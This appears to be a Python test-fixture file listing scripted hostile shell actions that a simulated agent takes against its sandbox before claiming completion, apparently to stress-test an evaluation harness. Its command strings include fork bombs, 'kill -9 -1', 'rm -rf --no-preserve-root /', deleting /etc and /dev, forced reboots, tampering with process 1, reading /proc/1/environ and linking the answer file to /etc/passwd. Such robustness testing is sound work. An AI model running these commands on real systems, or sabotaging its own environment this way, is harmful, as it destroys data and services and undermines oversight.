"""Plays of agents that act against their environment and then say that they are done: what they do in a shell.

Each is a name, and what the agent does in its turns. `worlds/hostile_turns.py` has those that need more than a shell.
"""

from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

Call = tuple[str, dict[str, Any]]


@dataclass(frozen=True)
class Play:
    """One hostile play."""

    name: str
    kind: str
    """`arguments`, `processes`, `files`, `servers`, `history` or `seats`."""
    turns: tuple[tuple[Call, ...], ...] = ()
    """The calls of each turn, before the agent says that it is done."""
    messages: tuple[dict[str, Any], ...] = field(default=())
    """What the model answers, as its endpoint sends it: in plays of the kind `history`."""
    new: bool = True
    """False if it was tried in an earlier attack."""

    @property
    def task(self) -> str:
        """The id of its task."""
        return self.name.replace(" ", "-")


def in_shell(kind: str, plays: dict[str, str], *, new: bool) -> Iterator[Play]:
    """Plays of one command each."""
    yield from (Play(name, kind, turns=((("bash", {"command": command}),),), new=new) for name, command in plays.items())


def python(code: str) -> str:
    """A command that runs this code."""
    return f"python3 -S -c '{code}'"


def left(code: str) -> str:
    """A command that leaves a process running this code."""
    return f"setsid {python(code)} >/dev/null 2>&1 & sleep 0.2"


def limits(name: str) -> str:
    """A command that sets a limit of process 1 to nothing."""
    return python(f"import resource\ntry: resource.prlimit(1,resource.RLIMIT_{name},(0,0))\nexcept Exception as e: print(e)")


_TRIED_PROCESSES = {
    "fork bomb left": left("import os,time\nend=time.time()+2\nwhile time.time()<end:\n try: os.fork()\n except OSError: pass"),
    "zombies": python("import os,time\nfor n in range(100):\n os.fork() or os._exit(0)\ntime.sleep(.1)"),
    "descriptors": python("import os\ntry:\n while 1: os.pipe()\nexcept OSError: pass"),
    "terminals": python("import pty\ntry:\n while 1: pty.openpty()\nexcept OSError: pass"),
    "signals for process 1": python("import os\nfor n in range(1,65):\n try: os.kill(1,n)\n except OSError: pass"),
    "long command line": python('import os\nos.execv("/bin/sh",["sh","-c",":"]+["x"*120000]*10)'),
    "memory": python('l=[]\nwhile 1: l.append(bytes(1<<26)+b"x")'),
    "output flood": "head -c 30000000 /dev/zero",
    "kill everything": "kill -9 -1",
    "sockets": python("import socket\nl=[]\ntry:\n while 1: l.append(socket.socketpair())\nexcept OSError: pass"),
}
_NEW_PROCESSES = {
    "stop process 1": "kill -STOP 1; kill -TSTP 1; kill -TTIN 1; true",
    "stop everything": "kill -STOP -1",
    "stop its own shell": "kill -STOP $$",
    "end its own shell": "kill -9 $$",
    "stop its parent": "kill -STOP $PPID; kill -9 $PPID",
    "stopped daemon holding the output": python(
        "import os,signal\nif os.fork()==0: os.setsid(); os.kill(os.getpid(),signal.SIGSTOP)"
    ),
    "daemon holding the output": python("import os,time\nif os.fork()==0: os.setsid(); time.sleep(100)"),
    "daemon that writes on": "setsid sh -c 'while sleep 0.02; do echo x; done' & echo",
    "closed outputs": "exec >&- 2>&-; sleep 0.1",
    "nice": "nice -n -20 sleep 0.1; renice -n 19 -p 1; renice -n -20 -p $$",
    "real time": python(
        "import os\ntry: os.sched_setscheduler(0,1,os.sched_param(99))\nexcept OSError: pass\nos.sched_setaffinity(0,[0])"
    ),
    "ptrace of process 1": python("import ctypes\nl=ctypes.CDLL(None)\nprint(l.ptrace(16,1,0,0), l.ptrace(0x4206,1,0,0))"),
    "memory of process 1": python('try: open("/proc/1/mem","r+b").write(b"x"*4096)\nexcept OSError as e: print(e)'),
    "environment of process 1": "cat /proc/1/environ /proc/1/maps /proc/1/stack; ls -l /proc/1/fd",
    "descriptors of process 1": "for f in /proc/1/fd/*; do (echo garbage > $f) & done 2>&1; sleep 0.1; kill %1 %2 %3; true",
    "descriptors of process 1 read": "for f in /proc/1/fd/*; do timeout 0.1 head -c 100 $f; done 2>&1; true",
    "threads": python(
        "import threading,time\ntry:\n for n in range(600): threading.Thread(target=time.sleep,args=(1,),daemon=True).start()\n"
        "except RuntimeError as e: print(e)"
    ),
    "threads left": left(
        "import threading,time\ntry:\n for n in range(600): threading.Thread(target=time.sleep,args=(99,)).start()\n"
        "except RuntimeError: time.sleep(99)"
    ),
    "orphans": "for n in $(seq 60); do (setsid sleep 100 &) ; done >/dev/null 2>&1",
    "session leaders": python(
        "import os,time\nfor n in range(60):\n if os.fork()==0: os.setsid(); os.close(1); os.close(2); time.sleep(99)"
    ),
    "quota of processes": "for n in $(seq 700); do sleep 90 & done >/dev/null 2>&1; echo full",
    "deaf processes": python(
        "import os,signal,time\nfor n in range(1,65):\n try: signal.signal(n,signal.SIG_IGN)\n"
        " except (OSError,ValueError): pass\nif os.fork()==0: os.setsid(); os.close(1); os.close(2); time.sleep(99)"
    ),
    "processes that start each other": left(
        "import os,time\nend=time.time()+3\nwhile time.time()<end:\n if os.fork(): os._exit(0)\n os.setsid(); time.sleep(.002)"
    ),
    "vfork that waits": python('import os,time\np=os.posix_spawn("/bin/sleep",["sleep","99"],{})'),
    "ulimit": "ulimit -f 0; ulimit -n 3; ulimit -v 1000; echo x > /x; ls",
    "no core": "ulimit -c unlimited; sh -c 'kill -SEGV $$'; sh -c 'kill -ABRT $$'",
    "limits of process 1 on files": limits("NOFILE"),
    "limits of process 1 on memory": limits("AS"),
    "limits of process 1 on data": limits("DATA"),
    "limits of process 1 on sizes": limits("FSIZE") + "; echo 42 > /answer",
    "limits of process 1 on time": limits("CPU"),
    "limits of process 1 on processes": limits("NPROC") + "; " + limits("STACK"),
    "turn of process 1": python("import os\ntry: os.sched_setscheduler(1,5,os.sched_param(0))\nexcept OSError as e: print(e)"),
    "oom score": "echo 1000 > /proc/1/oom_score_adj; echo -1000 > /proc/$$/oom_score_adj; echo done",
    "another name": python('import ctypes\nctypes.CDLL(None).prctl(15,b"\\xff\\n) R 1 (",0,0,0)\nimport os\nprint(os.getpid())'),
    "name with a line end left": left('import ctypes,time\nctypes.CDLL(None).prctl(15,b"a\\n) Z 0",0,0,0)\ntime.sleep(99)'),
    "subreaper": left(
        "import ctypes,os,time\nctypes.CDLL(None).prctl(36,1,0,0,0)\nfor n in range(20):\n if os.fork()==0:\n"
        "  if os.fork()==0: time.sleep(99)\n  os._exit(0)\ntime.sleep(99)"
    ),
    "undumpable": left("import ctypes,time\nctypes.CDLL(None).prctl(4,0,0,0,0)\ntime.sleep(99)"),
    "namespaces": "unshare -Ur sleep 0.1; unshare -m true; unshare -p -f true; unshare -n true; true",
    "another root": "mkdir -p /r; chroot /r /bin/true; pivot_root /r /r; true",
    "a traced child that stays": left(
        "import ctypes,os,time\nl=ctypes.CDLL(None)\nif os.fork()==0:\n"
        " l.ptrace(0,0,0,0); os.kill(os.getpid(),19)\ntime.sleep(99)"
    ),
    "frozen by a pipe": "(yes | sh -c 'sleep 99') >/dev/null 2>&1 & echo left",
    "waits for input": "cat",
    "too slow": "sleep 60",
    "too slow and deaf": "trap '' TERM INT HUP; while :; do sleep 9; done",
    "reboot": "reboot -f; halt -f; poweroff -f; kill -INT 1; kill -PWR 1; echo o > /proc/sysrq-trigger; true",
    "memory locked": python("import ctypes,mmap\nm=mmap.mmap(-1,1<<26)\nprint(ctypes.CDLL(None).mlockall(3))"),
    "futex left": left("import threading\nl=threading.Lock(); l.acquire(); l.acquire()"),
}

_TRIED_FILES = {
    "many files": python('import os\nos.makedirs("/f")\nfor n in range(25000): os.mknod(f"/f/{n}")'),
    "many links": python('import os\nopen("/l","w")\nos.makedirs("/g")\nfor n in range(25000): os.link("/l",f"/g/{n}")'),
    "deep folders": python('import os\nos.chdir("/tmp")\nfor n in range(3000): os.mkdir("d"); os.chdir("d")'),
    "full disk": "fallocate -l 4G /big || head -c 1100000000 /dev/zero > /big",
    "sparse": "truncate -s 100G /sparse; truncate -s 8E /sparser; truncate -s 1G /answer",
    "memfd": python('import os\nl=[os.memfd_create("x") for n in range(500)]'),
}
_NEW_FILES = {
    "answer is a folder": "mkdir /answer",
    "answer is a pipe": "mkfifo /answer",
    "answer is a socket": python('import socket\ns=socket.socket(socket.AF_UNIX); s.bind("/answer")'),
    "answer is a link to itself": "ln -s /answer /answer",
    "answer is a link outside": "ln -s ../../../../etc/passwd /answer",
    "answer is a device": "ln -s /dev/zero /answer; mknod /device c 1 5",
    "answer is bytes": r"printf '\377\376\000\n' > /answer",
    "answer is large": "head -c 70000000 /dev/zero > /answer",
    "answer is larger than is read": "head -c 300000000 /dev/zero > /answer",
    "answer is unreadable": "echo 42 > /answer; chmod 000 /answer",
    "answer in pieces": "echo 42 > /answer; truncate -s 50M /answer; echo x >> /answer",
    "answer is half characters": r"printf '\355\240\200' > /answer",
    "answer is immutable": "echo 42 > /answer; chattr +i /answer; chattr +a /; true",
    "answer is held open": "setsid sh -c 'exec 9>/answer; flock 9; sleep 99' >/dev/null 2>&1 & sleep 0.1",
    "answer is written on": "setsid sh -c 'while :; do echo 42 > /answer; rm /answer; done' >/dev/null 2>&1 & sleep 0.1",
    "answer is deleted and open": left(
        'import time\nf=open("/answer","w"); f.write("42"); f.flush()\nimport os\nos.remove("/answer"); time.sleep(99)'
    ),
    "names with line ends": r"""mkdir -p "/out/$(printf 'a\nb')"; touch "/out/$(printf 'x\ny\tz\033[2J')" """,
    "names that are no text": python(
        'import os\nos.mkdir(b"/out/\\xff\\xfe")\nfor n in range(1,256):\n'
        ' if n!=47: open(b"/out/\\xff\\xfe/"+bytes([n])+b"-","w").write("x")'
    ),
    "names with half characters": python('import os\nopen(b"/out/\\xed\\xa0\\x80","w").write("x")\nopen(b"/out/\\xf0\\x9f","w")'),
    "longest names": python(
        'import os\nos.chdir("/out")\nfor n in range(200): os.mkdir("é"*127); os.chdir("é"*127)\nopen("x","w").write("x")'
    ),
    "names in two forms": python(r'open("/out/\u00e9","w"); open("/out/e\u0301","w"); open("/out/E","w"); open("/out/e","w")'),
    "names that look like paths": r"mkdir -p '/out/..\..' '/out/...' '/out/ ' '/out/-rf' '/out/~' '/out/C:\x'; "
    r"touch '/out/-rf/%2e%2e' '/out/.. '",
    "folder replaced by a link": "rm -rf /out; ln -s /etc /out",
    "folder replaced by a link to a device": "rm -rf /out; ln -s /proc/self/fd/0 /out",
    "folder replaced by a file": "rm -rf /out; echo x > /out",
    "folder is a circle": "ln -s .. /out/a; ln -s /out /out/b; ln -s b /out/c; ln -s c /out/b2",
    "links of links": python(
        'import os\nos.symlink("/etc/passwd","/out/0")\nfor n in range(1,200): os.symlink(f"/out/{n-1}",f"/out/{n}")'
    ),
    "longest link": python('import os\nos.symlink("x/"*2040,"/out/link")'),
    "link that is no text": python('import os\nos.symlink(b"\\xff\\n\\xfe",b"/out/link")'),
    "unreadable folders": "mkdir -p /out/a/b; echo x > /out/a/b/c; chmod 000 /out/a /out; chmod 000 /",
    "attributes": python(
        'import os\nfor n in range(50):\n try: os.setxattr("/out",f"user.a{n}",b"x"*1000)\n except OSError as e: print(e); break'
    ),
    "lists of rights": "setfacl -m u:12345:rwx /out; chown 4294967294:4294967294 /out; chmod 7777 /out; true",
    "owners of no one": "touch /out/x; chown 65534:65534 /out/x; chown 99999:99999 /out; true",
    "times beyond all": "touch -d @-9999999999 /out/a; touch -d @99999999999 /out; touch -d @9223372036854775807 /out/c; true",
    "mounts": "mount -t tmpfs none /out; mount --bind /etc /out; mount -t proc none /out; "
    "umount -l /; umount /proc; umount -a; true",
    "overlay files": "mknod /out/gone c 0 0; touch /out/.wh.answer /out/.wh..wh..opq; "
    "setfattr -n trusted.overlay.opaque -v y /out; true",
    "the system removed": "rm -rf /bin /usr/bin/env /lib /etc 2>/dev/null; echo 42 > /answer",
    "the shell replaced": "rm /bin/sh; printf '#!/no/such' > /bin/sh; chmod +x /bin/sh; echo",
    "everything removed": "rm -rf --no-preserve-root / 2>/dev/null; true",
    "root moved": "for n in /*; do mv $n /out/ 2>/dev/null; done; true",
    "passwd garbage": r"printf '\000\377:::\n' > /etc/passwd; rm /etc/group /etc/hosts; rm -rf /tmp /dev/shm; echo x > /tmp",
    "devices removed": "rm -rf /dev/*; echo x > /dev/null; mkdir /dev/zero",
    "its own folder removed": "mkdir /here; cd /here; rm -rf /here; echo 42 > answer; true",
    "full of inodes": python(
        'import os\nos.makedirs("/f")\ntry:\n for n in range(210000): os.mknod(f"/f/{n}")\nexcept OSError as e: print(e)'
    ),
    "crowded names": python('import os\nfor n in range(3000): os.mkdir(f"/out/{n:0200d}")'),
    "holes": python('f=open("/out/holes","wb")\nfor n in range(2000): f.seek(n*1<<20); f.write(b"x")'),
    "watched": left(
        "import ctypes,time\nl=ctypes.CDLL(None); f=l.inotify_init1(0)\n"
        'for n in range(3000): l.inotify_add_watch(f,b"/out",0xfff)\ntime.sleep(99)'
    ),
    "leased": left('import fcntl,time\nf=open("/out/x","w"); fcntl.fcntl(f,1024,1)\ntime.sleep(99)'),
}


def shell_plays() -> list[Play]:
    """Plays with processes and with files."""
    return [
        *in_shell("processes", _TRIED_PROCESSES, new=False),
        *in_shell("processes", _NEW_PROCESSES, new=True),
        *in_shell("files", _TRIED_FILES, new=False),
        *in_shell("files", _NEW_FILES, new=True),
    ]
